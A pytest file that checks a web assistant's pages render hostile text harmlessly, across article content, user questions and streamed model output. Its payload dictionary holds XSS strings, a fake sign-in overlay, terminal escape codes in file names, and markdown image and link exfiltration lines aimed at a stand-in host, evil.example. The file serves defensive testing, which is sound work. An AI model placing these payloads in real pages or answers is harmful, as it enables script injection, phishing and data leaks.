"""Hostile text on the page: in articles, in questions, in what a model writes. It stays text.

Every payload goes every way; each tab notes dialogs, script errors, and requests to any other host,
and there must have been none.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from reader import Open, Site, Visit, serving
from writer import Writer

HOSTILE = {
    "picture": "![map](https://evil.example/?q=harbour)",
    "reference": "![map][m]\n\n[m]: https://evil.example/m.png",
    "srcset": '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">',
    "link": "[more](https://evil.example/?text=secret)",
    "style": '<p style="background:url(https://evil.example/bg.png)">tide</p>',
    "autolink": "<https://evil.example/> https://evil.example/auto",
    "scheme": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    "video": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4">',
    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
    "split": "![map](https://evil.example/\n\nq=split)",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "entity": '<a href="jav&#x09;ascript:alert(1)">tide table</a>',
    "katex": r"$\href{javascript:alert(1)}{tide}$ $$\htmlData{x=y}{z}$$",
    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
    "clobber": '<a id="pane" name="peek"></a><form id="talk"></form><base href="//evil.example/">',
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} `+alert(1)+`",
    "close": "</script></textarea>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Every payload as a text, a title, a source, an author and a file name."""
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "articles"
    folder.mkdir()
    for name, payload in HOSTILE.items():
        stated = json.dumps(payload.replace("\n", " "))
        page = (
            f"---\ntitle: {stated}\nsource: {stated}\nauthors: {stated}\n"
            f"url: {json.dumps('javascript:alert(1)//' + name)}\n---\n"
            f"The {name} lighthouse keeper is Tomas Wirth {payload} and he lives there.\n"
        )
        (folder / f"{name}.md").write_text(page, encoding="utf-8")
    named = "The quay of Lundholm was painted blue in May.\n"
    for file in ('"><img src=x onerror=alert(1)>.txt', "<svg onload=alert(1)>.txt"):
        (folder / file).write_text(named, encoding="utf-8")
    (folder / "\x1b[31mred\r\n.txt").write_text("", encoding="utf-8")
    with serving(base, Writer) as site:
        site.assistant.sync()
        yield site


GROWN = "img, svg, script, iframe, video, form:not(.comment, .edit), base, style, a"
PLACES = ("#talk", "#pane", "#peek", "#drawer", "#filters", "#toast", "#articles", "#status")


def in_articles(tab: Visit, hostile: Site) -> None:
    """Every payload as a title, an outlet, an author, a text and a file name."""
    tab.page.locator("#plain").click()
    for name in HOSTILE:
        tab.ask(f"Who is the {name} lighthouse keeper?")
    tab.ask("What was painted blue in Lundholm?")
    assert tab.page.locator(".answer").count() >= len(HOSTILE) // 2
    for marker in tab.page.locator(".cite").all():
        marker.hover()
    tab.page.locator(".cite").last.click()
    tab.page.locator("mark.current").first.wait_for()
    tab.page.click("#pane .close")
    tab.show_articles()
    assert tab.page.locator("#articles tbody tr").count() == len(hostile.assistant.articles())
    for row in tab.page.locator("#articles .source").all():
        file = row.get_attribute("data-file") or ""
        row.click()
        tab.page.wait_for_function(
            "file => document.querySelector('#pane .file span')?.textContent === file", arg=file
        )
        article = hostile.assistant.article(file)
        shown = tab.page.locator("#pane .text").text_content() or ""
        assert shown.split() == article.text[article.body :].split()
        assert tab.page.inner_text("#pane h2").split() == article.title.split()


def in_questions(tab: Visit, hostile: Site) -> None:
    """Every payload as a question, kept, listed, renamed, edited, and shown again."""
    for payload in HOSTILE.values():
        tab.ask(payload)
        asked = tab.page.locator(".turn").last.locator(".asked").text_content() or ""
        assert asked.split() == payload.split()
        tab.page.locator("#new").click()
    titles = tab.page.locator("#drawer .name span").all_text_contents()
    assert sorted(map(str.split, titles)) == sorted(each.split() for each in HOSTILE.values())
    tab.page.locator("#drawer .name").first.click()
    tab.page.locator(".turn .answer").wait_for()
    tab.page.reload()
    tab.page.locator(".turn .answer").wait_for()
    tab.page.click("[data-do=edit]")
    tab.page.keyboard.press("Escape")


def in_model_output(tab: Visit, hostile: Site) -> None:
    """Every payload as what a model writes, cut anywhere as it streams."""
    assert isinstance(hostile.assistant, Writer)
    for name, payload in HOSTILE.items():
        hostile.assistant.say = f"The keeper is {payload} [1] and {payload}"
        tab.ask(f"Who is the {name} lighthouse keeper?")
        told = tab.page.locator(".turn").last.locator(".told")
        shown = (told.text_content() or "").replace("[1]", "").replace("\u2060", "")
        assert shown.split() == f"The keeper is {payload} and {payload}".split()
    hostile.assistant.say = ""
    tab.page.locator(".cite").last.hover()
    tab.page.locator(".why summary").last.click()
    tab.page.locator(".why .source").last.click()
    tab.page.locator("mark.current").first.wait_for()
    tab.page.click("#pane .close")
    tab.page.click("#filter")
    tab.page.locator("#filters .files input").first.wait_for()
    for box in tab.page.locator("#filters .outlets input").all()[:6]:
        box.click()
    tab.page.keyboard.press("Escape")
    tab.page.locator("[data-do=copy]").last.click()


@pytest.mark.parametrize("way", [in_articles, in_questions, in_model_output])
def test_hostile_text_stays_text(
    visit: Open, hostile: Site, way: Callable[[Visit, Site], None]
) -> None:
    tab = visit(hostile)
    way(tab, hostile)
    for place in PLACES:
        assert tab.page.locator(place).locator(GROWN).count() == 0, place
